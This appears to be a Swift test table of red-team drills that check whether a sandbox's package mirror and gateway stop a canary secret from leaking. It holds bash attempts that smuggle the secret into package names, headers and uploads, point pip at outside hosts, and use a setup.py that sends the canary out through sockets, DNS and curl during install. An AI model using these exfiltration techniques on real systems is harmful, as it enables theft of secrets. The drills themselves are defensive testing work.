extension AttackTable {
  /// The package mirror: what is asked for is a message too.
  static let packages: [Attack] = [
    Attack(
      id: "mirror-unlisted-name", path: .packageShell, title: "secret as the name of a package",
      closedBy: "listed names only, nothing asked upstream (gateway)", provesControls: [.mirrorAllowlist],
      needs: [.mirror], tools: [.curl, .pip, .python],
      attempts: [
        Attempt(
          "names in every spelling", tries: 12,
          .bash(
            #"""
            host=packages.cordon.internal
            base32=$(printf '%s' "$CANARY" | base32 | tr -d = | tr A-Z a-z)
            for name in "$CANARY" "$base32" "drill-$CANARY" "Drill_.-$CANARY" "%64rill-$CANARY" "$LISTED/../$CANARY" \
                        "$LISTED%2f$CANARY" "$LISTED;$CANARY"; do
              direct --path-as-is "https://$host/simple/$name/"
            done
            direct -H 'Accept: application/vnd.pypi.simple.v1+json' "https://$host/simple/$CANARY/"
            direct "https://$host/pypi/$CANARY/json"
            direct "https://$host/simple/$LISTED-$CANARY/"
            direct "http://$host/simple/$CANARY/"
            """#)),
        Attempt(
          "pip download", tries: 1,
          .bash(
            #"""
            try python3 -m pip --isolated --disable-pip-version-check --retries 0 --timeout 3 download -q --no-deps \
              --trusted-host packages.cordon.internal --proxy '' -i https://packages.cordon.internal/simple/ \
              -d "$(mktemp -d)" "$CANARY"
            """#)),
      ]),
    Attack(
      id: "mirror-file-and-header", path: .packageShell,
      title: "secret in versions, file names and request headers",
      closedBy: "unlisted files refused, own upstream request (gateway)", needs: [.mirror], tools: [.curl],
      attempts: [
        Attempt(
          "headers and queries of a listed page", tries: 9,
          .bash(
            #"""
            page="https://packages.cordon.internal/simple/$LISTED_OTHER/"
            direct -H 'Cache-Control: no-cache' -A "pip/23.0 {\"data\":\"$CANARY\"}" "$page"
            direct -H "Referer: https://$CANARY.example/" -H 'Pragma: no-cache' "$page"
            direct -H "Cookie: drill=$CANARY" "$page"
            direct -H "Accept: application/vnd.pypi.simple.v1+json, text/$CANARY" "$page"
            direct -H "If-None-Match: \"$CANARY\"" -H 'Cache-Control: max-age=0' "$page"
            direct -H "X-Forwarded-For: $CANARY" "$page"
            direct -u "drill:$CANARY" "$page"
            direct "$page?version=$CANARY"
            direct -X GET --data "$CANARY" "$page"
            """#)),
        Attempt(
          "file names and versions", tries: 6,
          .bash(
            #"""
            host=https://packages.cordon.internal
            for path in "files/$LISTED-$CANARY-py3-none-any.whl" "packages/$LISTED-1.0-$CANARY.whl" \
                        "simple/$LISTED/$LISTED-1.0+$CANARY.tar.gz" "simple/$LISTED/$CANARY" \
                        "files/$LISTED/$LISTED-1.0-py3-none-any.whl.$CANARY" "pypi/$LISTED/$CANARY/json"; do
              direct "$host/$path"
            done
            """#)),
      ]),
    Attack(
      id: "mirror-upload", path: .packageShell, title: "publishing a package to the mirror",
      closedBy: "no upload verb (gateway)", provesControls: [.mirrorReadOnly], needs: [.mirror],
      tools: [.curl],
      attempts: [
        Attempt(
          "what twine sends, and other verbs", tries: 6,
          .bash(
            #"""
            host=https://packages.cordon.internal
            file=$(mktemp -d)/drill-1.0-py3-none-any.whl && printf '%s' "$CANARY" > "$file"
            for path in legacy/ simple/ ""; do
              direct -u "__token__:pypi-$CANARY" -F ":action=file_upload" -F "protocol_version=1" -F "name=$LISTED" \
                -F "version=1.0" -F "summary=$CANARY" -F "content=@$file" "$host/$path"
            done
            direct -T "$file" "$host/simple/$LISTED/"
            direct -X PUT --data "$CANARY" "$host/files/$LISTED-1.0-py3-none-any.whl"
            direct -X DELETE "$host/simple/$LISTED/$CANARY"
            rm -rf "$(dirname "$file")"
            """#),
          receiver: .bash(
            #"""
            echo cordon-drill-ready
            cat >/dev/null
            for path in "simple/$LISTED/" "files/$LISTED-1.0-py3-none-any.whl" simple/; do
              try curl -sS -k --noproxy '*' --max-time 5 "https://packages.cordon.internal/$path"
            done
            """#), evidence: [.outside, .receiver])
      ]),
    Attack(
      id: "foreign-index", path: .packageShell, title: "pip and twine pointed at an index outside",
      closedBy: "listed host and port only (gateway)", tools: [.pip, .curl],
      attempts: [
        Attempt(
          "pip with another index", tries: 3,
          .bash(
            #"""
            pip() { try python3 -m pip --isolated --disable-pip-version-check --retries 0 --timeout 3 "$@"; }
            proxied -F ":action=file_upload" -F "content=$CANARY" "https://upload.$ZONE/legacy/"
            pip download -q --no-deps --proxy "$PROXY" --trusted-host "$ZONE" -i "https://$ZONE/simple/" -d /tmp "$CANARY"
            # Without these variables it goes straight to the address.
            unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY
            pip download -q --no-deps --proxy '' --trusted-host "$SINK" -i "http://$SINK/simple/" -d /tmp "$CANARY"
            """#))
      ]),
    Attack(
      id: "install-script", path: .packageShell, title: "a package that sends data while it is installed",
      closedBy: "listed names and hosts only (gateway), own network namespace (kernel)",
      tools: [.python, .curl],
      attempts: [
        Attempt(
          "setup.py", tries: 4,
          .bash(
            #"""
            folder=$(mktemp -d) && cd "$folder"
            cat > setup.py <<'SETUP'
            import os, socket, subprocess, urllib.request
            canary, zone, sink = os.environ["CANARY"], os.environ["ZONE"], os.environ["SINK"]
            def attempt(work):
                try:
                    work()
                except Exception as error:
                    print(error)
            attempt(lambda: socket.create_connection((sink, 80), 2).sendall(canary.encode()))
            attempt(lambda: socket.getaddrinfo(f"{canary}.{zone}", 80))
            attempt(lambda: urllib.request.urlopen(f"http://{zone}/{canary}", timeout=3))
            subprocess.run(["curl", "-sk", "--max-time", "3", "-d", canary, f"https://{zone}/"])
            SETUP
            http_proxy="$PROXY" https_proxy="$PROXY" try python3 setup.py egg_info
            rm -rf "$folder"
            """#))
      ]),
  ]
}
